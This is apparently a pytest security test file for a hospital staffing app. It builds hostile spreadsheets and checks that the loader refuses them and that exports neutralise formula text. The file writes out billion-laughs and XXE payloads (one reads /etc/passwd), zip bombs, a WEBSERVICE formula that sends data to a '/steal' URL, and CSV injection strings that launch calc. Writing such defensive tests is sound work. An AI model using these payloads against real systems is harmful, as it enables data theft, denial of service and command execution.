"""Hostile files through the public loader ``data_loaders.load_file``: refused with a clear message, never parsed
into the store, and nothing they smuggle in comes back out through an export.

The corpus is built at test time in a temporary folder from a valid workbook (XlsxWriter), rewritten the way an
attacker would: XML entity expansion and external entities, zip bombs (a real high-ratio member and a member whose
header claims 1 GB), a worksheet claiming a billion rows, formulas, and an oversized upload. The loaders' own corpus
(tests/bad_files.py) covers ordinary bad files; this one is the security review's.
"""

from __future__ import annotations

import io
import struct
import time
import tomllib
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from access import auth
from components import session
from data_loaders import load_file
from data_loaders.export import to_safe_csv, to_safe_xlsx
from data_loaders.settings import max_upload_mb
from data_loaders.store import create_store
from tests.bad_files import rewrite_member, xlsx_bytes
from tests.test_auth_session import APP

PROJECT = Path(__file__).resolve().parents[1]
UNITS = [["Unit ID", "Unit Name", "Unit Type"], ["ICU", "Intensive care", "ICU"], ["ED", "Emergency", "ED"]]
SHEET = "xl/worksheets/sheet1.xml"


def _write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


def _workbook() -> bytes:
    return xlsx_bytes({"units": UNITS})


def billion_laughs_in_workbook_part(folder: Path) -> Path:
    laughs = b'<!ENTITY a0 "ha">' + b"".join(
        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">'.encode() for i in range(1, 10)
    )
    data = rewrite_member(
        _workbook(),
        "xl/workbook.xml",
        lambda old: old.replace(b"?>", b"?><!DOCTYPE workbook [" + laughs + b"]>", 1),
    )
    return _write(folder, "laughs.xlsx", data)


def external_entity_in_sheet(folder: Path) -> Path:
    xxe = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    data = rewrite_member(
        _workbook(),
        SHEET,
        lambda old: old.replace(b"?>", b"?>" + xxe, 1).replace(b"<sheetData>", b"<sheetData>&xxe;", 1),
    )
    return _write(folder, "xxe.xlsx", data)


def high_ratio_zip_bomb(folder: Path) -> Path:
    """A worksheet padded with 16 MB of spaces: about 16 KB compressed, a ratio near 1000 (guard: > 10 MB, > 200x)."""
    padding = b" " * (16 * 1024 * 1024)
    data = rewrite_member(_workbook(), SHEET, lambda old: old.replace(b"<sheetData>", b"<sheetData>" + padding))
    return _write(folder, "bomb.xlsx", data)


def member_claiming_one_gigabyte(folder: Path) -> Path:
    """A small workbook whose zip directory says the worksheet unpacks to 1 GB (header edited, data unchanged)."""
    data = bytearray(_workbook())
    name, patched = SHEET.encode(), 0
    position = data.find(b"PK\x01\x02")  # central directory entries
    while position != -1:
        name_length = struct.unpack_from("<H", data, position + 28)[0]
        if data[position + 46 : position + 46 + name_length] == name:
            struct.pack_into("<I", data, position + 24, 1024**3)  # uncompressed size
            patched += 1
        position = data.find(b"PK\x01\x02", position + 4)
    assert patched == 1
    assert zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(SHEET).file_size == 1024**3
    return _write(folder, "claims_1gb.xlsx", bytes(data))


def billion_row_dimension(folder: Path) -> Path:
    data = rewrite_member(
        _workbook(), SHEET, lambda old: old.replace(b'<dimension ref="A1:C3"/>', b'<dimension ref="A1:C1000000000"/>')
    )
    assert b"C1000000000" in zipfile.ZipFile(io.BytesIO(data)).read(SHEET)
    return _write(folder, "billion_rows.xlsx", data)


def formula_never_calculated(folder: Path) -> Path:
    """The beds cell of ED is ``=WEBSERVICE(...)`` with no saved result: a formula the loader must not evaluate."""
    data = xlsx_bytes({"units": [["Unit ID", "Beds"], ["ICU", 12], ["ED", 30]]})
    data = rewrite_member(
        data,
        SHEET,
        lambda old: old.replace(
            b'<c r="B3"><v>30</v></c>', b'<c r="B3"><f>WEBSERVICE("http://127.0.0.1:9/steal?"&amp;A2)</f></c>'
        ),
    )
    return _write(folder, "formula.xlsx", data)


HOSTILE = {
    "entity expansion (billion laughs) in workbook.xml": (billion_laughs_in_workbook_part, ("entity", "doctype")),
    "external entity reading /etc/passwd": (external_entity_in_sheet, ("entity", "doctype")),
    "zip bomb, 16 MB of padding": (high_ratio_zip_bomb, ("zip bomb",)),
    "zip member claiming 1 GB": (member_claiming_one_gigabyte, ("zip bomb", "uncompressed", "ratio")),
    "worksheet claiming a billion rows": (billion_row_dimension, ("claims",)),
    "formula without a saved result": (formula_never_calculated, ("formula",)),
}


@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_file_is_refused_with_a_clear_message(tmp_path, case):
    build, fragments = HOSTILE[case]
    result = load_file(build(tmp_path))
    errors = result.problems[result.problems["severity"] == "error"]
    assert not errors.empty, f"{case}: no error reported"
    reasons = " ".join(errors["reason"]).lower()
    assert any(f in reasons for f in fragments), f"{case}: unclear message {reasons[:300]!r}"
    assert all(len(r) > 30 for r in errors["reason"])  # a sentence, not a code


@pytest.mark.parametrize("case", [c for c in HOSTILE if c != "formula without a saved result"])
def test_refused_workbook_yields_no_rows(tmp_path, case):
    result = load_file(HOSTILE[case][0](tmp_path))
    assert sum(len(frame) for frame in result.tables.values()) == 0


def test_external_entity_content_never_reaches_rows_or_messages(tmp_path):
    result = load_file(external_entity_in_sheet(tmp_path))
    everything = result.problems.astype(str).to_csv() + "".join(f.astype(str).to_csv() for f in result.tables.values())
    assert "root:" not in everything


def test_formula_cell_is_not_evaluated_and_its_row_is_named(tmp_path):
    result = load_file(formula_never_calculated(tmp_path))
    problems = result.problems[result.problems["reason"].str.contains("formula", case=False)]
    assert problems["row"].astype("Int64").tolist() == [3]
    beds = result.tables.get("units", pd.DataFrame({"beds": []}))["beds"].dropna().tolist()
    assert 30 not in beds  # the old value is gone and nothing was computed in its place


FORMULA_TEXT = ['=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1"]


def test_formula_text_in_a_csv_stays_text_and_is_neutralised_in_every_export(tmp_path):
    path = tmp_path / "employees.csv"
    quoted = [text.replace('"', '""') for text in FORMULA_TEXT]
    rows = "".join(f'E{i},"{text}",Lee,RN,ICU,2020-01-01\n' for i, text in enumerate(quoted))
    path.write_text("Employee ID,First Name,Last Name,Job,Unit,Hire Date\n" + rows, encoding="utf-8")
    employees = load_file(path).tables["employees"]
    # stored as the text it is (surrounding whitespace trimmed like every cell), never evaluated
    assert employees["first_name"].tolist() == [text.strip() for text in FORMULA_TEXT]
    exported = pd.read_csv(io.BytesIO(to_safe_csv(employees)), dtype=str, keep_default_na=False)
    assert all(v.startswith("'") for v in exported["first_name"])
    sheet = pd.read_excel(io.BytesIO(to_safe_xlsx({"employees": employees})), dtype=str)
    assert all(v.startswith("'") for v in sheet["first_name"])


def test_upload_over_the_limit_is_refused_unread(tmp_path, monkeypatch):
    monkeypatch.setenv("HOSPITAL_MAX_UPLOAD_MB", "1")
    path = tmp_path / "big.csv"
    path.write_bytes(b"Unit ID,Unit Name\n" + b"ICU,Intensive care\n" * 80_000)
    result = load_file(path)
    assert sum(len(f) for f in result.tables.values()) == 0
    assert "1 MB" in " ".join(result.problems["reason"])


def test_server_upload_limit_matches_the_app_setting():
    config = tomllib.loads((PROJECT / ".streamlit" / "config.toml").read_text())
    assert config["server"]["maxUploadSize"] == max_upload_mb()
    assert config["server"]["enableXsrfProtection"] is True
    assert config["browser"]["gatherUsageStats"] is False


def test_no_page_renders_through_unsafe_html():
    offenders = [
        str(p.relative_to(PROJECT))
        for folder in ("app_pages", "components")
        for p in (PROJECT / folder).glob("*.py")
        if "unsafe_allow_html" in p.read_text() or "st.html(" in p.read_text()
    ]
    assert offenders == []


@pytest.fixture
def import_page(tmp_path, monkeypatch):
    """The data import page as an HR officer, on an empty store."""
    engine = create_store(f"sqlite:///{tmp_path / 'store.sqlite'}")
    auth.add_user(engine, "hr.officer", "hr_officer", password=None)  # real data: not a demo account
    monkeypatch.setenv("HOSPITAL_STORE_URL", str(engine.url))
    monkeypatch.setenv("HOSPITAL_BOOTSTRAP_SAMPLE", "0")
    session.get_engine.clear()
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state["account"] = auth.get_account(engine, "hr.officer")
    at.session_state["last_seen"] = time.monotonic()
    at.run().switch_page("app_pages/data_import.py").run()
    yield at
    session.get_engine.clear()


def _shown(at: AppTest) -> str:
    texts = [str(e.value) for kind in ("error", "warning", "info", "markdown", "caption") for e in at.get(kind)]
    frames = [el.value.astype(str).to_csv() for el in at.dataframe if isinstance(el.value, pd.DataFrame)]
    return " ".join(texts + frames)


def test_import_page_refuses_an_upload_over_the_limit_unread(import_page, monkeypatch):
    monkeypatch.setenv("HOSPITAL_MAX_UPLOAD_MB", "1")
    at = import_page.run()
    at.get("file_uploader")[0].upload("big.csv", b"Unit ID,Unit Name\n" + b"ICU,Intensive care\n" * 80_000).run()
    assert any("larger than the 1 MB limit and was not read" in e.value for e in at.error)
    assert not [b for b in at.button if b.label.startswith("Import ")]


def test_import_page_shows_why_a_zip_bomb_was_refused_and_offers_no_import(import_page, tmp_path):
    data = high_ratio_zip_bomb(tmp_path).read_bytes()
    at = import_page
    at.get("file_uploader")[0].upload("bomb.xlsx", data).run()
    assert "zip bomb" in _shown(at).lower()
    assert not [b for b in at.button if b.label.startswith("Import ")]
